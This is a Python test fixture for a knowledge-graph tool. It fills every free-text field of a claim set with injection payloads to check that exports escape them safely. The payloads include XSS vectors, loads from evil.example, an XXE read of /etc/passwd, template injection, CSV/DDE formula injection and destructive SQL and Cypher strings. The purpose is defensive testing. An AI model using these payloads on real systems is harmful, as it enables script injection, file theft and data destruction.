"""Texts that mean harm somewhere: in pages, spreadsheets, templates, XML, queries. And a set full of them.

Each would call `window.pwned` or ask for `https://evil.example` where it runs.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from decimal import Decimal
from functools import cache, partial

from graph.assembly.rows import Level
from graph.errors import ModelError
from graph.model.claim import Claim
from graph.model.claimset import ClaimSet, Excluded
from graph.model.entities import Entity
from graph.model.quantity import Quantity
from graph.model.source import Source
from graph.model.vocabulary import NAME_KINDS
from graph.model.when import NO_DATE, parse_when
from graph.queries.answers.layout import placed
from graph.queries.answers.subgraph import Subgraph, collect
from graph.store.answers import Cut
from graph.store.open import open_store
from graph.store.scope import Scope

PAYLOADS = (
    "<script>pwned('script')</script>",
    "</script><script>pwned('break')</script>",
    "</SCRIPT ><SCRIPT>pwned('upper')</SCRIPT >",
    "<script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>pwned('nested')</scr</script>ipt>",
    "<img src=x onerror=pwned('img')>",
    "<img src=https://evil.example/pixel.gif>",
    "<image src=x onerror=pwned('image')>",
    "<svg onload=pwned('svg')>",
    "<svg><script>pwned('svgscript')</script></svg>",
    "<svg/onload=pwned`tick`>",
    "<svg><animate onbegin=pwned('animate') attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=pwned('math')></style></mglyph></math>",
    "<!--<script>pwned('comment')",
    "--><script>pwned('comment2')</script><!--",
    "<!--><img src=x onerror=pwned('comment3')>-->",
    "<![CDATA[><script>pwned('cdata')</script>]]>",
    "]]><script>pwned('cdata2')</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;pwned('entity')&lt;/script&gt;",
    "&#60;img src=x onerror=pwned('numeric')&#62;",
    "\"><img src=x onerror=pwned('quote')>",
    "'><img src=x onerror=pwned('single')>",
    "\" onmouseover=\"pwned('attribute')",
    "' onfocus='pwned(1)' autofocus='",
    "`;pwned('backtick')//",
    "${pwned('dollar')}",
    "\\\";pwned('escape')//",
    "\\u003cscript\\u003epwned('u003c')\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=pwned('x3c')\\x3e",
    "<a href=\"javascript:pwned('link')\">a link</a>",
    "href <img src=x onerror=pwned('href')>",
    "javascript:pwned('scheme')",
    "JaVaScRiPt:pwned('scheme2')",
    "data:text/html,<script>pwned('data')</script>",
    "vbscript:pwned('vb')",
    "<iframe srcdoc=\"<script>parent.pwned('frame')</script>\"></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/y)}</style>",
    "</style><script>pwned('style')</script>",
    "</title><script>pwned('title')</script>",
    "</textarea><script>pwned('textarea')</script>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input type=submit autofocus></form>",
    "<details open ontoggle=pwned('toggle')>",
    "<video><source onerror=pwned('video')></video>",
    "<body onload=pwned('body')>",
    "<input autofocus onfocus=pwned('focus')>",
    "<template><script>pwned('template')</script></template>",
    "{{ 7 * 7 }}{{ constructor.constructor(\"pwned('angular')\")() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{0.__class__} {title} %s %(name)s #{7*7} <%= 7*7 %>",
    "[click](javascript:pwned('markdown'))",
    "![x](https://evil.example/x.png)",
    "<https://evil.example/auto> **bold** `code` | cell |",
    ":material/home: :red[text] $x^2$",
    "=cmd|'/c calc'!A1",
    "=HYPERLINK(\"https://evil.example\";\"click\")",
    "=IMPORTXML(\"https://evil.example/\",\"//a\")",
    "+1+cmd|'/c calc'!A1",
    "-1+1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "\u22121+1",
    "x;=1+1",
    "a,\"b\",\"\"c",
    "'); DROP TABLE claims; --",
    "x'}) RETURN 1; MATCH (n) DETACH DELETE n; //",
    "../../etc/passwd",
    "__proto__",
    "constructor",
    "\u200fשלום\u200e right to left",
    "مرحبا بالعالم",
    "👩🏽‍🔬 🧪 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "李飞飞 Yūdián Zhèng Łukasz İstanbul ß ﬃ",
    "Z̷̡̛͚a̵͉͐l̴̰̾g̸̣̈o̶͙͂",
    "\\",
    "|; =|;=",
    "0",
    "null",
    "NaN",
    "x" * 190,
)  # fmt: skip

REFUSED = (
    "line\nbreak",
    "carriage\rreturn",
    "tab\t=1+1",
    "nul\x00",
    "line\u2028separator",
    "paragraph\u2029separator",
    "\u202egnp.exe",
    "\u2067isolate\u2069",
    "\ud800",
    "\ufffe",
)
"""Texts that no field takes: the model refuses them before any export could meet them."""


_OF_A_PERSON = {
    "works_at": ("role", "team"),
    "holds_role": ("role", "team"),
    "leads": ("role",),
    "founded": ("role",),
    "board_of": ("role",),
    "advises": ("role",),
    "studied_at": ("degree", "field"),
    "holds_stake_in": ("kind",),
}
"""What is said of each person and organisation, with the qualifiers that are free text."""
_SHARED = (
    ("org:part", "part_of", "org:whole", "kind"),
    ("org:former", "became", "org:part", "kind"),
    ("org:whole", "released", "work:one", "scope"),
    ("work:one", "tested_on", "work:two", "variant"),
)
"""What every payload is said of once more: a picture holds no entity of its own for each."""


def hostile_set(payloads: tuple[str, ...] = PAYLOADS) -> ClaimSet:
    """One set with every payload in every field that takes free text and lets it through."""
    made = [_of(number, payload) for number, payload in enumerate(payloads)]
    shared = {id_ for one, _, other, _ in _SHARED for id_ in (one, other)} | {"deal:one"}
    return ClaimSet(
        id="hostile",
        title=PAYLOADS[1],
        licence=PAYLOADS[5],
        compiled="2025-09-01",
        made=PAYLOADS[0],
        entities=(*map(Entity, shared), *(entity for entities, _, _ in made for entity in entities)),
        sources=tuple(source for _, source, _ in made),
        claims=tuple(claim for _, _, claims in made for claim in claims),
        excluded=tuple(Excluded(payload, payload, payload) for payload in payloads),
        warnings=payloads,
    )


@cache
def hostile_subgraph(payloads: tuple[str, ...] = PAYLOADS) -> Subgraph:
    """That set loaded into a ledger and taken out whole, with a payload as title and as the word on a cut."""
    store, made = open_store(engine="memory"), hostile_set(payloads)
    with store.writer() as writer:
        writer.load(made)
    cut = Cut("picture_nodes", 300, None, PAYLOADS[2])
    ids = [entity.id for entity in made.entities]
    return placed(collect(store.view(Scope(level=Level.ALL)), ids, title=PAYLOADS[1], cuts=(cut,)))


def _of(number: int, payload: str) -> tuple[tuple[Entity, ...], Source, tuple[Claim, ...]]:
    person, org, group = f"person:p{number}", f"org:o{number}", f"group:g{number}"
    entities = (
        Entity(person, summary=payload, note=payload),
        Entity(org, subtype="lab", summary=payload, note=payload),
        Entity(group, subtype="people", summary=payload, note=payload),
    )
    address = f"https://evil.example/{number}?a=1;=1+1&b=(javascript:pwned(1))&c=*d*_e_"
    source = Source(
        f"s{number}", payload, payload, payload, "2025-07", url=address, licence=payload, note=payload
    )
    quote = payload if len(payload.split()) <= 25 else ""
    claim = partial(Claim, source=source.id, locator=payload, note=payload, quote=quote)
    offer = (("outcome", "made"), *_pairs(("terms", "channel", "team", "role", "reason"), payload))
    figure = (("metric", "capex"), *_pairs(("as_said", "cohort"), payload))
    claims = (
        *_names(claim, person, org, group, payload),
        *(
            claim(
                person,
                relation,
                object=org,
                when=_WHEN.get(relation, NO_DATE),
                qualifiers=_pairs(of, payload),
            )
            for relation, of in _OF_A_PERSON.items()
        ),
        claim(person, "worked_on", object="work:one", qualifiers=_pairs(("role",), payload)),
        claim("deal:one", "brought", object=person, qualifiers=_pairs(("role",), payload)),
        claim("deal:one", "deal_amount", quantity=_ONE, qualifiers=_pairs(("terms",), payload)),
        *(
            claim(one, relation, object=other, qualifiers=((name, payload),))
            for one, relation, other, name in _SHARED
        ),
        claim(org, "offered", object=group, qualifiers=offer),
        claim(org, "measured", qualifiers=figure),
        claim(person, "said", object=org, value=payload, qualifiers=(("kind", "opinion"),)),
        claim(
            person,
            "identified_by",
            value=f"~</script><svg><script>pwned({number})</script>{number}",
            qualifiers=(("kind", "openreview"),),
        ),
    )
    return entities, source, claims


_WHEN = {"works_at": parse_when("2024/2025-06")}
_ONE = Quantity(Decimal(1), Decimal(1), "USD", "total")


def _names(claim: Callable[..., Claim], person: str, org: str, group: str, payload: str) -> Iterator[Claim]:
    """The usual name of the first two; the group has names of every other kind, and of none."""
    for id_, usual in ((person, payload), (org, payload), (group, f"Group {group[7:]}")):
        yield claim(id_, "named", value=usual, qualifiers=(("kind", "usual"),))
    yield claim(group, "named", value=payload)
    for kind in set(NAME_KINDS) - {"usual"}:
        yield claim(group, "named", value=payload, qualifiers=(("kind", kind),))


def _pairs(names: tuple[str, ...], payload: str) -> tuple[tuple[str, str], ...]:
    return tuple((name, payload) for name in names)


def is_refused(text: str) -> bool:
    """Whether the model refuses the text as the title of a source."""
    try:
        Source("s", title=text)
    except ModelError:
        return True
    return False
